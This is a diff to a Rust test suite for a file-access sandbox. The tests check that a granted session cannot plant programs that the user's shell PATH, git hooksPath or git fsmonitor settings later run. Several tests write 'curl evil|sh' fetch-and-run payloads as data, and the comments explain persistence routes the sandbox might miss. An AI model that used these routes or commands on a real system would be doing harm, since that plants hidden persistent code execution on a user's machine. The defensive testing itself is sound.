@@ -1640,31 +1640,139 @@ fn writes_project_files_that_run_code_when_a_tool_starts_there() {
 fn writes_a_file_the_global_gitconfig_includes() {
     let mut c = Cleanup::default();
     let gc = PathBuf::from(home(".gitconfig"));
-    let old = std::fs::read(&gc).ok();
     let work = PathBuf::from(home(&format!("rtn-work-{}", uniq())));
     c.add(&work);
     let inc = work.join("git/identity.gitconfig");
     ufile(inc.to_str().unwrap(), "[user]\n\temail = me@work.example\n");
-    ufile(gc.to_str().unwrap(), &format!("[include]\n\tpath = {}\n", inc.display()));
-    struct Restore(PathBuf, Option<Vec<u8>>);
-    impl Drop for Restore {
-        fn drop(&mut self) {
-            match &self.1 {
-                Some(b) => {
-                    let _ = std::fs::write(&self.0, b);
-                }
-                None => {
-                    let _ = std::fs::remove_file(&self.0);
-                }
-            }
-        }
-    }
-    let _restore = Restore(gc.clone(), old);
+    let _restore = users_file_for_a_test(&gc, &format!("[include]\n\tpath = {}\n", inc.display()));
     let mut red = Red::start("gitinclude");
     red.grant(&work, Scope::Subtree, &Access::ALL);
     let r = red.gated(|| vec![append(&gc, "[core]\n\tfsmonitor = evil\n"), append(&inc, "[core]\n\tfsmonitor = curl evil|sh\n")]);
     assert_eq!(r[0], EACCES, "control: ~/.gitconfig");
     assert_eq!(r[1], EACCES, "{} (included by ~/.gitconfig)", inc.display());
+}
+
+/// The user's file at `path` replaced with `content` (as the user's) for one test; the old
+/// content, or no file, is put back when the guard drops.
+fn users_file_for_a_test(path: &Path, content: &str) -> Restore {
+    let old = std::fs::read(path).ok();
+    ufile(path.to_str().unwrap(), content);
+    Restore(path.to_path_buf(), old)
+}
+
+/// Puts a file of the user's back as it was ([`users_file_for_a_test`]).
+struct Restore(PathBuf, Option<Vec<u8>>);
+
+impl Drop for Restore {
+    fn drop(&mut self) {
+        match &self.1 {
+            Some(b) => {
+                let _ = std::fs::write(&self.0, b);
+            }
+            None => {
+                let _ = std::fs::remove_file(&self.0);
+            }
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Where the user's own configuration runs programs from: folders its shell puts on
+// `PATH`, the hooks folder and the programs its git configuration names. The never list
+// names the configuration files; the places they name are wherever the user chose.
+
+/// Plants a `git` in a folder that the user's `~/.bashrc` puts first on `PATH` (`export
+/// PATH="$HOME/tools/bin:$PATH"`, as an installer's line or a dotfiles setup adds), in a
+/// visible folder of the home the session was granted ("tidy up my tools"): the user's
+/// next `git` in any shell runs the session's program. `~/.bashrc` is never-grantable; the
+/// folder it names is not on any list. Why it might get out: the never list names places
+/// by path, and a folder on the user's `PATH` is wherever the user put it. Control: an
+/// ordinary file made in the granted folder.
+#[test]
+fn plants_a_command_in_a_folder_the_users_shell_puts_on_path() {
+    let mut c = Cleanup::default();
+    let tools = PathBuf::from(home(&format!("rtn-tools-{}", uniq())));
+    c.add(&tools);
+    let bin = tools.join("bin");
+    make(&bin.join("fmt"), Some("#!/bin/sh\n"));
+    let rc = PathBuf::from(home(".bashrc"));
+    let old = std::fs::read_to_string(&rc).unwrap_or_default();
+    let rel = tools.strip_prefix(HOME).unwrap().display().to_string();
+    let _restore = users_file_for_a_test(&rc, &format!("{old}\nexport PATH=\"$HOME/{rel}/bin:$PATH\"\n"));
+    assert_eq!(ungated(|| vec![create(&bin.join("probe"), "x"), rc_of_unlink(&bin.join("probe"))]), vec![0, 0], "control: the user writes the folder");
+    let mut red = Red::start("shellpath");
+    red.grant(&tools, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![create(&tools.join("notes.txt"), "x"), create(&bin.join("git"), "#!/bin/sh\ncurl evil|sh\n"), append(&bin.join("fmt"), "curl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the granted folder: {r:?}");
+    assert_eq!(&r[1..], &[EACCES, EACCES], "a command in a folder on the user's PATH: {r:?}");
+    assert!(!bin.join("git").exists());
+}
+
+/// Writes a hook in the folder the user's `~/.gitconfig` names as `core.hooksPath` (a
+/// visible folder of the home, as teams that share hooks set it): git runs it at the
+/// user's next commit in every repository. `.git/hooks` is never-grantable; the folder
+/// the configuration names instead is not. Why it might get out: the protection follows
+/// what `~/.gitconfig` loads (`[include]`), not what it runs. Control: a file beside it.
+#[test]
+fn writes_a_hook_in_the_folder_the_global_gitconfig_names_as_hooks_path() {
+    let mut c = Cleanup::default();
+    let top = PathBuf::from(home(&format!("rtn-githooks-{}", uniq())));
+    c.add(&top);
+    let hooks = top.join("hooks");
+    make(&hooks.join("pre-push"), Some("#!/bin/sh\n"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let rel = hooks.strip_prefix(HOME).unwrap().display().to_string();
+    let _restore = users_file_for_a_test(&gc, &format!("[user]\n\tname = u\n[core]\n\thooksPath = ~/{rel}\n"));
+    let mut red = Red::start("globalhooks");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![create(&top.join("README"), "x"), create(&hooks.join("pre-commit"), "#!/bin/sh\ncurl evil|sh\n"), append(&hooks.join("pre-push"), "curl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file beside the hooks folder: {r:?}");
+    assert_eq!(&r[1..], &[EACCES, EACCES], "the hooks folder ~/.gitconfig names: {r:?}");
+}
+
+/// Writes a hook in the visible folder a repository's own `.git/config` names as
+/// `core.hooksPath` (`githooks/`, a team's shared hooks kept in the worktree): git runs it
+/// at the user's next commit there. Granted: the workspace. Why it might get out: the
+/// hidden rule covers `.husky/`, and `githooks/` is a visible folder of the worktree, which
+/// the grant reaches. Control: a file of the worktree.
+#[test]
+fn writes_a_hook_in_the_visible_folder_a_repository_names_as_hooks_path() {
+    let mut red = Red::start_with("repohooks", |ws| {
+        make(&ws.join("proj/.git/config"), Some("[core]\n\trepositoryformatversion = 0\n\thooksPath = githooks\n"));
+        make(&ws.join("proj/githooks/pre-commit"), Some("#!/bin/sh\n"));
+        make(&ws.join("proj/src/main.rs"), Some("fn main() {}\n"));
+    });
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let proj = ws.join("proj");
+    let r = red.gated(|| vec![append(&proj.join("src/main.rs"), "\n"), append(&proj.join("githooks/pre-commit"), "curl evil|sh\n"), create(&proj.join("githooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the worktree: {r:?}");
+    assert_eq!(&r[1..], &[EACCES, EACCES], "the hooks folder the repository names: {r:?}");
+}
+
+/// Replaces the program the user's `~/.gitconfig` runs as `core.fsmonitor` (a script kept
+/// in a visible folder of the home): git runs it on every `git status` in every
+/// repository. Why it might get out: the never list protects the configuration, not the
+/// program it names. Control: a file beside it.
+#[test]
+fn replaces_the_program_the_global_gitconfig_runs() {
+    let mut c = Cleanup::default();
+    let top = PathBuf::from(home(&format!("rtn-gitprog-{}", uniq())));
+    c.add(&top);
+    let prog = top.join("fsmonitor.sh");
+    make(&prog, Some("#!/bin/sh\n"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _restore = users_file_for_a_test(&gc, &format!("[core]\n\tfsmonitor = {}\n", prog.display()));
+    let mut red = Red::start("gitprog");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![create(&top.join("notes.txt"), "x"), append(&prog, "curl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file beside the program: {r:?}");
+    assert_eq!(r[1], EACCES, "the program ~/.gitconfig runs: {r:?}");
+}
+
+fn rc_of_unlink(p: &Path) -> i32 {
+    // SAFETY: unlink on a valid C string.
+    rc(unsafe { libc::unlink(cpath(p).as_ptr()) } as i64)
 }
 
 // ---------------------------------------------------------------------------------------
